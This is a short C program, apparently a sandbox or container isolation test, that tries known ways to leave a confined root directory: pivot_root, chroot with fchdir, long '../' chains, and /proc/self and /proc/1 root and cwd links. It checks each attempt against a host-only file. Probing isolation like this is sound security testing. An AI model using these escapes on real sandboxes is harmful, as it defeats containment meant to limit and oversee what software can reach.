// SPDX-License-Identifier: GPL-2.0-only
/* Leaves the root directory: pivot_root, chroot, "..", and what /proc offers. */
#include "attack.h"

static bool is_host(int fd)
{
	return fd >= 0 && faccessat(fd, HOST_ONLY + 1, F_OK, 0) == 0;
}

int main(void)
{
	char up[4096] = "";
	int fd = open("/", O_PATH | O_DIRECTORY);

	way(syscall(SYS_pivot_root, "/tmp", "/tmp") == 0, "pivot_root");
	way(syscall(SYS_pivot_root, ".", ".") == 0, "pivot_root of .");
	for (int i = 0; i < 100; i++)
		strcat(up, "../");
	way(is_host(open(up, O_PATH)), "..");
	way(chroot("/tmp") == 0, "chroot");
	way(chroot("/tmp") == 0 && fchdir(fd) == 0 && chdir(up) == 0 &&
		    is_host(open(".", O_PATH)),
	    "chroot and ..");
	way(is_host(openat(fd, "..", O_PATH)), ".. of /");
	way(is_host(open("/proc/self/root/..", O_PATH)), "/proc/self/root/..");
	way(is_host(open("/proc/self/cwd/../../../../../../..", O_PATH)), "the cwd");
	way(is_host(open("/proc/1/root", O_PATH)), "/proc/1/root");
	way(is_host(open("/proc/1/cwd", O_PATH)), "/proc/1/cwd");
	way(access(HOST_ONLY, F_OK) == 0, "its name");
	return attack_done();
}
